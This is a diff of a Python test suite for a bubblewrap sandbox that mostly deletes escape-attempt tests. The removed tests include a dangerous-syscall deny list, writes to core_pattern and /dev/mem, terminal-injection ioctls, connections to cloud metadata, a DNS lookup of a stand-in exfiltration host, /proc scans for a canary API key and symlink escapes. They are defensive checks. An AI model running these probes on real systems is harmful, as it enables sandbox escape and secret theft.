@@ -1,4 +1,4 @@
-"""Attacks from inside a sandbox. Each passes when the attack fails; the letters are the classes of the threat model."""
+"""Attacks on a bubblewrap sandbox that look at its own parts. What every rung promises is in the attack corpus."""
 
 from __future__ import annotations
 
@@ -7,8 +7,6 @@ import errno
 import json
 import os
 import resource
-import secrets
-import socket
 import tempfile
 import threading
 from pathlib import Path
@@ -46,21 +44,6 @@ async def errors_of(farm: Farm, calls: list[list[int]]) -> list[int]:
     return result
 
 
-ATTACKED = (
-    *("mount", "umount2", "pivot_root", "chroot", "move_mount", "open_tree", "fsopen", "fsmount", "mount_setattr"),
-    *("unshare", "setns", "ptrace", "process_vm_readv", "process_vm_writev", "pidfd_getfd", "kcmp"),
-    *("bpf", "userfaultfd", "perf_event_open", "io_uring_setup", "io_uring_enter", "io_uring_register"),
-    *("keyctl", "add_key", "request_key", "init_module", "finit_module", "delete_module", "kexec_load"),
-    *("open_by_handle_at", "name_to_handle_at", "reboot", "swapon", "quotactl", "syslog", "acct", "fanotify_init"),
-)
-
-
-async def test_c6_dangerous_system_calls_are_refused_before_their_arguments_are_read(farm: Farm) -> None:
-    # All arguments are 0 or bad pointers: a kernel that looked at them would say EFAULT, EINVAL, EBADF or even yes.
-    results = await errors_of(farm, [[number(name), 0, 0, 0, 0, 0] for name in ATTACKED])
-    assert dict(zip(ATTACKED, results, strict=True)) == dict.fromkeys(ATTACKED, errno.EPERM)
-
-
 async def test_c6_every_call_of_the_list_is_in_the_filter(farm: Farm) -> None:
     names = [name for name in seccomp.DENIED if _known(name)]
     assert len(names) > 60
@@ -75,15 +58,6 @@ def _known(name: str) -> bool:
         return False
 
 
-async def test_c6_no_new_namespace_by_clone_or_clone3(farm: Farm) -> None:
-    flags = list(seccomp.CLONE_NEW.values())
-    sigchld = 17
-    results = await errors_of(
-        farm, [[number("clone"), flag | sigchld, 0, 0, 0, 0] for flag in flags] + [[number("clone3"), 0, 0]]
-    )
-    assert results == [errno.EPERM] * len(flags) + [errno.ENOSYS]
-
-
 async def test_c6_user_namespaces_are_off_even_without_the_filter(farm: Farm) -> None:
     """The second lock behind the filter: the kernel's own limit, set to what the sandbox already uses."""
     sandbox = await farm.create()
@@ -96,256 +70,7 @@ async def test_c6_user_namespaces_are_off_even_without_the_filter(farm: Farm) ->
     assert json.loads(done.out) == [errno.ENOSPC], done
 
 
-async def test_c6_only_plain_socket_families(farm: Farm) -> None:
-    families = [*range(64), 64, 1000, (1 << 32) + 40, (1 << 32) + 1, (1 << 64) - 1]
-    stream, datagram = 1, 2
-    results = await errors_of(
-        farm, [[number("socket"), family, datagram if family == 16 else stream, 0] for family in families]
-    )
-    allowed = [family for family, result in zip(families, results, strict=True) if result != errno.EPERM]
-    assert allowed == [socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK]
-
-
-async def test_c6_no_typing_into_terminals(farm: Farm) -> None:
-    sandbox = await farm.create()
-    code = """
-import ctypes, errno, fcntl, json, os
-libc = ctypes.CDLL(None, use_errno=True)
-main, sub = os.openpty()
-if os.fork():
-    os.wait()
-    os._exit(0)
-os.setsid()
-fcntl.ioctl(sub, 0x540E, 0)  # one's own terminal: into another's one can't type anyway
-def request(value):
-    letter = ctypes.c_char(b"x")
-    ctypes.set_errno(0)
-    libc.syscall(IOCTL, ctypes.c_long(sub), ctypes.c_ulong(value), ctypes.byref(letter))
-    return ctypes.get_errno()
-print(json.dumps([request(0x5412), request(0x541C), request((1 << 32) | 0x5412), request(0x5413)]))
-""".replace("IOCTL", str(number("ioctl")))
-    assert await farm.python(sandbox, code) == [errno.EPERM, errno.EPERM, errno.EPERM, 0]
-
-
-async def test_c6_kernel_settings_modules_and_devices_are_out_of_reach(farm: Farm) -> None:
-    sandbox = await farm.create()
-    script = """
-for file in /proc/sys/kernel/hostname /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger \
-    /proc/sys/user/max_user_namespaces /sys/kernel/uevent_helper /dev/mem /dev/kmsg /dev/vda /proc/kcore /proc/kmsg; do
-  if ( echo 1 > $file ) 2>/dev/null; then echo wrote $file; fi
-  if ( head -c 1 $file ) >/dev/null 2>&1; then case $file in /proc/sys/*) ;; *) echo read $file;; esac; fi
-done
-[ -e /sys ] && echo sys
-mknod /tmp/disk b 254 0 2>/dev/null && echo mknod
-mount -t tmpfs none /tmp 2>/dev/null && echo mounted
-unshare -Ur true 2>/dev/null && echo unshared
-chroot / true 2>/dev/null && echo chrooted
-su root -c true </dev/null 2>/dev/null && echo su
-ls /dev | sort | tr '\\n' ' '
-"""
-    done = await farm.sh(sandbox, script)
-    assert done.out.split() == sorted(
-        [
-            "core",
-            "fd",
-            "full",
-            "null",
-            "ptmx",
-            "pts",
-            "random",
-            "shm",
-            "stderr",
-            "stdin",
-            "stdout",
-            "tty",
-            "urandom",
-            "zero",
-        ]
-    ), done
-
-
-# ------------------------------------------------------------------------------------------------- A7: round the proxy
-
-
-async def test_a7_no_route_no_resolver_no_raw_socket(farm: Farm) -> None:
-    sandbox = await farm.create()
-    with socket.create_server(("127.0.0.1", 0)) as listener:
-        port = listener.getsockname()[1]
-        tried = await farm.python(
-            sandbox,
-            """
-import errno, json, socket
-def attempt(family, kind, protocol, address):
-    try:
-        s = socket.socket(family, kind, protocol)
-        s.settimeout(2)
-        s.connect(address) if kind == socket.SOCK_STREAM else s.sendto(b"x", address)
-        return "went out"
-    except OSError as e:
-        return errno.errorcode.get(e.errno, str(e))
-I4, I6 = socket.AF_INET, socket.AF_INET6
-T, U, R = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
-result = {}
-for host in ("1.1.1.1", "169.254.169.254", "10.0.0.1", "192.168.0.1", "172.17.0.1", "255.255.255.255", "224.0.0.1"):
-    result["tcp " + host] = attempt(I4, T, 0, (host, 443))
-    result["udp " + host] = attempt(I4, U, 0, (host, 53))
-for host in ("2606:4700:4700::1111", "fd00::1", "fe80::1%lo", "::ffff:1.1.1.1"):
-    result["tcp " + host] = attempt(I6, T, 0, (host, 443))
-    result["udp " + host] = attempt(I6, U, 0, (host, 53))
-result["icmp raw"] = attempt(I4, R, socket.IPPROTO_ICMP, ("127.0.0.1", 0))
-result["icmp ping"] = attempt(I4, U, socket.IPPROTO_ICMP, ("1.1.1.1", 0))
-result["raw"] = attempt(I4, R, socket.IPPROTO_RAW, ("127.0.0.1", 0))
-result["raw6"] = attempt(I6, R, socket.IPPROTO_ICMPV6, ("::1", 0))
-result["packet"] = attempt(17, R, 0, ("lo", 0))
-result["vsock"] = attempt(40, T, 0, (2, 1024))
-result["host loopback"] = attempt(I4, T, 0, ("127.0.0.1", PORT))
-for name in ("example.com", "secret-data.evil.test", "localhost.localdomain", "metadata.google.internal"):
-    try:
-        result["dns " + name] = str(socket.getaddrinfo(name, 80))
-    except OSError as e:
-        result["dns " + name] = "no name"
-result["interfaces"] = [name for _, name in socket.if_nameindex()]
-result["routes"] = open("/proc/net/route").read().splitlines()[1:]
-result["neighbours"] = open("/proc/net/unix").read().count("@")
-print(json.dumps(result))
-""".replace("PORT", str(port)),
-        )
-    assert tried.pop("interfaces") == ["lo"]
-    assert tried.pop("routes") == []
-    assert tried.pop("neighbours") == 0
-    assert tried.pop("host loopback") == "ECONNREFUSED"
-    refused = {"ENETUNREACH", "EPERM", "EACCES", "EADDRNOTAVAIL", "EINVAL", "ECONNREFUSED", "no name"}
-    assert {key: value for key, value in tried.items() if value not in refused} == {}
-    for key in ("icmp raw", "raw", "raw6", "packet", "vsock"):
-        assert tried[key] == "EPERM", key
-    for key in ("tcp 1.1.1.1", "udp 1.1.1.1", "tcp 169.254.169.254", "tcp 2606:4700:4700::1111"):
-        assert tried[key] == "ENETUNREACH", key
-
-
-async def test_a7_there_are_two_sockets_and_no_third(farm: Farm) -> None:
-    sandbox = await farm.create()
-    found = await farm.python(
-        sandbox,
-        "import json,os,stat; print(json.dumps(sorted(os.path.join(t,f) for t,d,fs in os.walk('/')"
-        " if not t.startswith('/proc') for f in fs if stat.S_ISSOCK(os.lstat(os.path.join(t,f)).st_mode))))",
-    )
-    assert found == ["/run/hostler/egress.sock", "/run/hostler/model.sock"]
-
-
-# --------------------------------------------------------------------------------------- B3, B4: secrets of the worker
-
-
-async def test_b3_worker_and_neighbour_are_not_in_proc(farm: Farm) -> None:
-    canary = f"canary-{secrets.token_hex(8)}"
-    neighbour = await farm.create("neighbour", environment={"PATH": "/usr/bin:/bin", "SECRET": canary})
-    other = await farm.start(neighbour, "/bin/sh", "-c", "echo up; read line", "argument-" + canary)
-    assert other.stdout is not None
-    assert await other.stdout.readline() == b"up\n"
-    sandbox = await farm.create()
-    code = """
-import json, os, sys
-words = sys.argv[1].split("+")
-canary = (words[0] + words[1]).encode()
-pids = [p for p in os.listdir("/proc") if p.isdigit()]
-seen = []
-for pid in pids:
-    for file in ("environ", "cmdline", "mountinfo", "maps", "stack", "syscall", "auxv"):
-        try:
-            if canary in open(f"/proc/{pid}/{file}", "rb").read(): seen.append([pid, file])
-        except OSError: pass
-signalled = []
-for pid in sys.argv[2:]:
-    try: os.kill(int(pid), 0); signalled.append(pid)
-    except ProcessLookupError: pass
-    except PermissionError: signalled.append(pid)
-print(json.dumps({"pids": [open(f"/proc/{p}/comm").read().strip() for p in pids if os.path.exists(f"/proc/{p}/comm")],
-  "seen": seen, "signalled": signalled, "one": sorted(open("/proc/1/environ").read().split(chr(0)))}))
-"""
-    beyond = 4_000_000  # above every pid inside
-    first, second = canary[:9], canary[9:]
-    done = await farm.run(
-        sandbox,
-        *(PYTHON, "-I", "-S", "-c", code, f"{first}+{second}", str(os.getpid() if os.getpid() > 100 else beyond)),
-        env={**os.environ, "ANTHROPIC_API_KEY": canary},
-    )
-    assert done.code == 0, done
-    seen = json.loads(done.out)
-    assert seen["seen"] == []
-    assert seen["signalled"] == []
-    assert set(seen["pids"]) <= {"bwrap", "sh", "socat", "python3", "python3.11"}
-    # Of process 1, which bwrap was: the mark by which the worker finds it, and what bash counts.
-    assert set(seen["one"]) == {"", f"HOSTLER_SANDBOX={sandbox.sandbox_id}", "SHLVL=0"}
-
-
-async def test_b4_inherited_descriptors_are_closed(farm: Farm, tmp_path: Path) -> None:
-    secret = tmp_path / "secret"
-    secret.write_text("canary")
-    sandbox = await farm.create()
-    opened = os.open(secret, os.O_RDONLY)
-    copies = [opened]
-    try:
-        for wanted in (3, 4, 5, 9, 10, 63, 255, 300):
-            try:
-                os.fstat(wanted)
-            except OSError:
-                os.dup2(opened, wanted)
-                copies.append(wanted)
-        inherited = [fd for fd in range(3, 301) if _is_open(fd)]
-        assert {63, 300} <= set(inherited)
-        code = "import json,os; print(json.dumps(os.listdir('/proc/self/fd')[:-1]))"  # the last is listdir's own
-        found = await farm.python(sandbox, code, pass_fds=inherited)
-    finally:
-        for fd in copies:
-            os.close(fd)
-    assert sorted(found) == ["0", "1", "2"]
-
-
-def _is_open(fd: int) -> bool:
-    try:
-        os.fstat(fd)
-    except OSError:
-        return False
-    return True
-
-
-async def test_b4_abstract_sockets_of_the_host_are_out_of_reach(farm: Farm) -> None:
-    name = f"hostler-test-{secrets.token_hex(8)}"
-    sandbox = await farm.create()
-    with socket.socket(socket.AF_UNIX) as listener:
-        listener.bind("\0" + name)
-        listener.listen()
-        with socket.socket(socket.AF_UNIX) as check:
-            check.connect("\0" + name)  # it is there
-        code = f"import json,socket; s=socket.socket(socket.AF_UNIX); print(json.dumps(s.connect_ex(chr(0)+{name!r})))"
-        assert await farm.python(sandbox, code) == errno.ECONNREFUSED
-
-
 # -------------------------------------------------------------------------------- C1: links out of the own directories
-
-
-async def test_c1_links_lead_nowhere_inside(farm: Farm, tmp_path: Path) -> None:
-    secret = tmp_path / "secret"
-    secret.write_text("canary")
-    spec = farm.spec()
-    spec.workspace.mkdir()
-    for name, target in (
-        ("file", secret),
-        ("dir", tmp_path),
-        ("root", Path("/proc/1/root")),
-        ("up", Path("../../../..")),
-    ):
-        (spec.workspace / name).symlink_to(target)
-    sandbox = await farm.create()
-    script = f"""
-cat file dir/secret root{secret} {secret} up{secret} 2>/dev/null
-for source in /etc/passwd /usr/bin/env /opt/hostler/claude /run/hostler/model.sock /mnt/session/outputs/o; do
-  : > /mnt/session/outputs/o
-  ln $source /workspace/hard 2>/dev/null && echo linked $source
-done
-exit 0
-"""
-    done = await farm.sh(sandbox, script)
-    assert (done.code, done.out) == (0, "")
 
 
 @pytest.mark.needs_root
@@ -596,15 +321,6 @@ async def test_c4_double_forked_children_end_with_destroy(farm: Farm) -> None:
     await sandbox.destroy()
     assert [pid for pid in pids if _alive(pid)] == []
     await process.wait()
-
-
-async def test_c4_double_forked_children_end_with_the_program(farm: Farm) -> None:
-    sandbox, process = await _stubborn(farm, "one", "leave")
-    pids = farm.pids_of(sandbox)
-    async with asyncio.timeout(DEADLINE):
-        assert await process.wait() == 0
-    await until(lambda: not [pid for pid in pids if _alive(pid)], "children outlived the program")
-    assert farm.pids_of(sandbox) == frozenset()
 
 
 async def test_c4_signal_to_the_launcher_ends_everything(farm: Farm) -> None:
